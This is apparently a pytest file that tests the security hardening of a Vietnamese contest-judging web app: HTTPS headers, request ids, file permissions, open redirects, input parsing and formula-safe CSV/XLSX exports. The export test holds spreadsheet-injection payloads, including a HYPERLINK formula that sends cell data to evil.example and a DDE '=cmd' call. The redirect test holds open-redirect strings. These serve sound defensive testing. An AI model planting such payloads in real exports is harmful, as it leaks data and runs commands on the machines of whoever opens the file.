"""The platform around the rules: HTTPS mode, addresses through a proxy, request ids in the
log, files for the service user only, numbers that cannot reach the database as absurd ids,
exports whose cells never run as formulas."""

from __future__ import annotations

import io
import logging
import os
import stat

import pytest
from openpyxl import load_workbook

from judging.export import ExportData, to_csv, to_xlsx
from tests.plugins.apps import copy_schema, make_app
from tests.plugins.web import login


def test_https_mode_marks_cookies_secure_and_sends_hsts(tmp_path, migrated_database):
    copy_schema(migrated_database, tmp_path)
    app = make_app(tmp_path, HTTPS=True)
    client = app.test_client()
    response = client.get("/login")
    assert response.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    assert (
        "Secure" in response.headers["Set-Cookie"] and "HttpOnly" in response.headers["Set-Cookie"]
    )
    assert "SameSite=Lax" in response.headers["Set-Cookie"]


def test_plain_mode_sends_no_hsts(client):
    assert "Strict-Transport-Security" not in client.get("/login").headers


def test_static_files_are_cached_for_an_hour_and_pages_are_not(client, world):
    static = client.get("/static/style.css")
    assert static.status_code == 200
    assert static.cache_control.public and static.cache_control.max_age == 3600
    assert static.headers["ETag"]
    static.close()
    again = client.get("/static/style.css", headers={"If-None-Match": static.headers["ETag"]})
    again.close()
    assert again.status_code == 304 and again.cache_control.max_age == 3600
    assert client.get("/login").cache_control.max_age is None


def test_a_login_lasts_a_limited_time(client, world):
    response = login(client, world["users"]["judge"])
    assert "Expires=" in response.headers["Set-Cookie"]  # a permanent session, 12 hours


def test_every_response_names_its_request_in_the_log(client):
    response = client.get("/", headers={"X-Request-Id": "abc-123"})
    assert response.headers["X-Request-Id"] == "abc-123"
    forged = client.get("/", headers={"X-Request-Id": "<script>"})
    assert (
        forged.headers["X-Request-Id"] != "<script>" and len(forged.headers["X-Request-Id"]) == 16
    )
    handler = next(h for h in logging.getLogger().handlers if h.get_name() == "guongsang")
    record = logging.LogRecord("contest", logging.ERROR, __file__, 1, "Lỗi hệ thống", None, None)
    with client.application.test_request_context("/", headers={"X-Request-Id": "req-42"}):
        client.application.preprocess_request()
        assert handler.filter(record)
    assert "[req-42] contest: Lỗi hệ thống" in handler.format(record)


@pytest.mark.sqlite_only
def test_database_and_storage_are_the_service_user_s_alone(app):
    database = app.config["SQLALCHEMY_DATABASE_URI"].removeprefix("sqlite:///")
    for path, mode in (
        (database, 0o600),
        (app.config["STORAGE_DIR"], 0o700),
        (app.instance_path, 0o700),
    ):
        assert stat.S_IMODE(os.stat(path).st_mode) == mode, path


def test_ids_beyond_any_row_are_a_404_not_a_database_error(client, world):
    login(client, world["users"]["province"])
    huge = "9" * 30
    for url in (f"/entries/{huge}", f"/rounds/{huge}", f"/profiles/{huge}"):
        assert client.get(url).status_code == 404, url
    assert client.get(f"/c/son-la-2019/audit?page={huge}").status_code == 200


def test_export_cells_never_run_as_formulas():
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1)"]
    data = ExportData(
        results=[
            ["SL19-AAAA", 1, "Giải Nhất", 90.5, 90.1, "Tên", name, "Đơn vị"] for name in hostile
        ],
        criteria=["=1+1"],
        judge_rows=[["SL19-AAAA", "=cmd|' /C calc'!A0", 10, 10]],
    )
    csv_text = to_csv(data).decode("utf-8-sig")
    for name in hostile:
        assert "'" + name.replace('"', '""') in csv_text
    assert "90.5" in csv_text and ",-" not in csv_text.replace(",-3", "")  # numbers stay numbers
    workbook = load_workbook(io.BytesIO(to_xlsx(data)))
    cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert workbook["Kết quả"]["G2"].value == hostile[0]  # shown as the text it is


def test_numbers_typed_into_forms_are_ordinary_ones():
    import pytest

    from contest.forms import finite_float
    from judging.forms import parse_lines

    assert finite_float(" 12,5 ") == 12.5
    for typed in ("nan", "inf", "-inf", "1e999", "1e20", "abc"):
        with pytest.raises(ValueError):
            finite_float(typed)
    for ladder in ("Giải Nhất | 1e20 | 80", "Giải Nhất | 2.5 | 80", "Giải Nhất | 1 | nan"):
        with pytest.raises(ValueError, match="dòng 1: số không hợp lệ"):
            parse_lines(ladder, (str, int, float), "Cơ cấu giải")
    assert parse_lines("Giải Nhất | 1 | 80,5", (str, int, float), "x") == [("Giải Nhất", 1, 80.5)]


def test_after_login_only_local_paths(client, world):
    from tests.plugins.factories import PASSWORD
    from tests.plugins.web import csrf_token

    for target, expected in [
        ("/c/son-la-2019/entries", "/c/son-la-2019/entries"),
        ("//evil.example/x", "/"),
        ("/\\evil.example", "/"),
        ("/\t/evil.example", "/"),
        ("https://evil.example/", "/"),
    ]:
        page = client.get("/login").get_data(as_text=True)
        response = client.post(
            "/login?next=" + target.replace("\t", "%09"),
            data={"csrf_token": csrf_token(page), "login": "a@example.com", "password": PASSWORD},
        )
        assert response.location == expected, target
        client.post("/logout", data={"csrf_token": csrf_token(client.get("/").get_data(True))})


def test_a_name_longer_than_its_column_is_refused_before_the_database():
    """PostgreSQL refuses a stage's or a prize's name over 100 characters (a 500 before)."""
    import pytest

    from judging.forms import NAME_LENGTH, parse_lines

    with pytest.raises(ValueError, match=f"dòng 2: tên dài quá {NAME_LENGTH} ký tự"):
        parse_lines(f"Giải Nhất | 1 | 80\n{'G' * 101} | 1 | 70", (str, int, float), "Cơ cấu giải")
    assert parse_lines(f"{'G' * 100} | 1 | 70", (str, int, float), "x")[0][0] == "G" * 100
